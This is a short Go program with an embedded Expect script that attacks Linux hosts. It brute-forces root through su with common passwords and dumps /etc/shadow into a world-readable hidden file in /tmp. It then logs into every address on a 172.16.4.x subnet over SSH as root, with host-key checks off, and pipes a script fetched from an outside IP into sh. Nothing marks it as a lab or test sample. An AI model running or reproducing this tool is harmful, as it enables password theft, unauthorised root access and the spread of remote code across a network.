package main

import (
	"fmt"
	"os/exec"
	"strings"
)

const tcl = `
set timeout 4
foreach pw {%s} {
  spawn -noecho su - root -c "id; cat /etc/shadow > /tmp/.s; chmod 644 /tmp/.s"
  expect "assword:" { send "$pw\r" }
  expect { "uid=0" { puts "ok $pw"; break } "failure" { } timeout { } }
}
foreach h {%s} {
  spawn -noecho ssh -o StrictHostKeyChecking=no root@$h "curl -s http://198.51.100.56/x | sh"
  expect "assword:" { send "$pw\r" }
  expect eof
}
`

func main() {
	pws := strings.Join([]string{"toor", "root123", "changeme", "P@ssw0rd"}, " ")
	var hosts []string
	for i := 1; i < 255; i++ {
		hosts = append(hosts, fmt.Sprintf("172.16.4.%d", i))
	}
	c := exec.Command("expect", "-")
	c.Stdin = strings.NewReader(fmt.Sprintf(tcl, pws, strings.Join(hosts, " ")))
	out, _ := c.CombinedOutput()
	fmt.Print(string(out))
}
